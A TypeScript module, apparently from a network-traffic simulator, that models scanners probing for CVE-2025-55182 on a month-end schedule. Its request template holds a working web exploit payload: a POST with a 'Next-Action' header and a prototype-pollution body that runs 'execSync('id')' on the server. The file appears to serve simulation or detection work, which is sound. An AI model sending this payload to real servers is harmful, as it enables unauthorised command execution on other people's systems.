import type { Behaviour } from '../behaviour.ts'
import { visit } from '../speak/http.ts'
import { syn } from '../speak/syn.ts'
import { hostOf } from '../targets.ts'
import { knock, several } from './tcp.ts'

/** CVE-2025-55182 as its public write-ups show it: nobody tries it until three days before the month ends, then many do. */
export const outbreak: Behaviour = {
  name: 'outbreak',
  networks: ['hosting-cheap', 'hosting-offshore', 'broadband-cn', 'hosting-asia'],
  addresses: 140,
  ipv6: 0.05,
  activeDays: [2, 3],
  firstDays: [26, 28],
  day: (actor, midnight, random) =>
    several(random, 2, 5, () => {
      const port = random.pick([80, 8080, 3000, 3000])
      return knock(actor, midnight, random, {
        port,
        syn: syn.linux,
        turns: (destination) =>
          visit({
            method: 'POST',
            uri: '/',
            headers: { 'Next-Action': 'x', 'Content-Type': 'text/plain;charset=UTF-8' },
            userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Assetnote/1.0.0',
            body: '{"then":"$1:__proto__:then","status":"resolved_model","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}',
            host: hostOf(destination, port),
          }),
      })
    }),
}
